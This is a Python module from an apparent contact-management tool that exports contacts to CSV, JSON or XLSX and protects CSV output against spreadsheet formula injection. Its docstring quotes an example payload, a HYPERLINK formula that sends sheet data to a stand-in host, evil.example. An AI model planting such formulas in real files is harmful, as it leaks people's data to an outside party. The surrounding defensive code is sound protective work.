"""Exporting contacts as CSV, JSON or XLSX, with the same filters as `contacts list`.

A CSV (or XLSX) export imports back losslessly: every field, the tags, the topics and every custom attribute
(one column each) come back as they were, and a contact that was unsubscribed, bounced or complained comes back
with that status, never as active. An attribute whose name would be read as a field on import ("Source",
"Country"…) is written as "attribute:Source" so that it stays an attribute.

A CSV is made to be opened in Excel, which runs a cell starting with `=`, `+`, `-` or `@` as a formula (and TAB or
CR can hide such a start): a name typed on the public form as `=HYPERLINK("http://evil.example/?d="&A1,"x")` would
be a live link sending the sheet's data away. So, by default, such a cell is written with a leading apostrophe
(OWASP's rule for CSV injection), which Excel shows as plain text; the importer removes exactly that apostrophe
again (`rows.unquote_formula`), so the export still imports back unchanged. `raw=True` (`--raw`) writes the values
as stored. The XLSX export needs none of this: every cell is typed as text.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, TextIO

from outreach.contacts.importing.columns import ATTRIBUTE_PREFIX, IGNORED_HEADERS, fold, guess_field
from outreach.contacts.importing.rows import FORMULA_STARTS
from outreach.db.contacts import attribute_names, iter_contacts
from outreach.db.schema import Database
from outreach.errors import InputError
from outreach.models.contacts import Contact, ContactFilter

if TYPE_CHECKING:
    from openpyxl.cell import Cell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMATS = ("csv", "json", "xlsx")
_RISKY = re.compile(r"(?:^|\x00)[=+\-@\t\r]")
COLUMNS = ("email", "name", "organisation", "role", "kind", "country", "language", "tags", "topics", "status",
           "consent_basis", "consent_source", "consent_at", "created_at", "updated_at")


def format_for(path: Path | None, given: str | None) -> str:
    """The export format: as given, else from the file's extension, else CSV."""
    if given:
        value = given.lower().lstrip(".")
        if value not in FORMATS:
            raise InputError(f"--format {given!r} is not one of: {', '.join(FORMATS)}")
        return value
    suffix = path.suffix.lower().lstrip(".") if path else ""
    return suffix if suffix in FORMATS else "csv"


def export_contacts(db: Database, contact_filter: ContactFilter | None, fmt: str, target: Path | TextIO,
                    *, raw: bool = False) -> int:
    """Write the matching contacts to a file or an open text stream (not for XLSX); returns how many were written.

    A file is written next to its final name and renamed at the end, so a failed export never leaves a
    half-written file under the name the user asked for.
    """
    if fmt not in FORMATS:
        raise InputError(f"Unknown export format {fmt!r}", "Use one of: " + ", ".join(FORMATS))
    if not isinstance(target, Path):
        if fmt == "xlsx":
            raise InputError("An XLSX export needs a file name", "Give -o contacts.xlsx.")
        return _write_text(db, contact_filter, fmt, target, raw)
    path = target
    partial = path.with_name(f".{path.name}.partial")
    try:
        if fmt == "xlsx":
            count = _write_xlsx(db, contact_filter, partial)
        else:
            # UTF-8 with a BOM, so that Excel on Windows opens the CSV with every accent intact.
            with partial.open("w", encoding="utf-8-sig" if fmt == "csv" else "utf-8", newline="") as handle:
                count = _write_text(db, contact_filter, fmt, handle, raw)
        partial.replace(path)
    except OSError as error:
        partial.unlink(missing_ok=True)
        raise InputError(f"Cannot write {path}: {error.strerror}", "Choose a folder you can write to.") from None
    return count


def header_for_attribute(name: str) -> str:
    """The column header of an attribute: its name, unless an import would read that as a field."""
    reserved = {fold(column) for column in (*COLUMNS, *IGNORED_HEADERS)}
    if guess_field(name) or fold(name) in reserved or name.lower().startswith(ATTRIBUTE_PREFIX):
        return f"{ATTRIBUTE_PREFIX}{name}"
    return name


def _rows(db: Database, contact_filter: ContactFilter | None) -> tuple[list[str], Iterator[list[str]]]:
    attributes = attribute_names(db, contact_filter)
    header = [*COLUMNS, *(header_for_attribute(name) for name in attributes)]

    def generate() -> Iterator[list[str]]:
        for contact in iter_contacts(db, contact_filter):
            yield [*_fields(contact), *(str(contact.attributes.get(name, "")) for name in attributes)]

    return header, generate()


def _fields(contact: Contact) -> list[str]:
    values: list[str] = []
    for column in COLUMNS:
        value: object = getattr(contact, column)
        if isinstance(value, list):
            value = ",".join(value)
        values.append("" if value is None else str(value))
    return values


def neutralise(row: list[str]) -> list[str]:
    """The row with every cell that a spreadsheet would run as a formula prefixed by an apostrophe."""
    if not _RISKY.search("\x00".join(row)):  # one search a row; the per-cell work only for the rare risky row
        return row
    return [f"'{value}" if value[:1] in FORMULA_STARTS else value for value in row]


def _write_text(db: Database, contact_filter: ContactFilter | None, fmt: str, handle: TextIO,
                raw: bool = False) -> int:
    count = 0
    if fmt == "json":
        handle.write("[")
        for contact in iter_contacts(db, contact_filter):
            handle.write(("," if count else "") + "\n  " + json.dumps(contact.public_dict(), ensure_ascii=False))
            count += 1
        handle.write("\n]\n" if count else "]\n")
        return count
    header, rows = _rows(db, contact_filter)
    writer = csv.writer(handle)
    writer.writerow(header)
    for row in rows:
        writer.writerow(row if raw else neutralise(row))
        count += 1
    return count


def _write_xlsx(db: Database, contact_filter: ContactFilter | None, path: Path) -> int:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("contacts")
    header, rows = _rows(db, contact_filter)
    bold = Font(bold=True)
    cells = []
    for name in header:
        cell = WriteOnlyCell(sheet, value=name)
        cell.font = bold
        cells.append(cell)
    sheet.append(cells)
    count = 0
    for row in rows:
        # Every value is text: a name starting with "=" must stay a name, never become a formula.
        sheet.append([_text_cell(sheet, value) for value in row])
        count += 1
    workbook.save(path)
    return count


def _text_cell(sheet: WriteOnlyWorksheet, value: str) -> Cell:
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if value.startswith("="):
        cell.data_type = "s"
    return cell
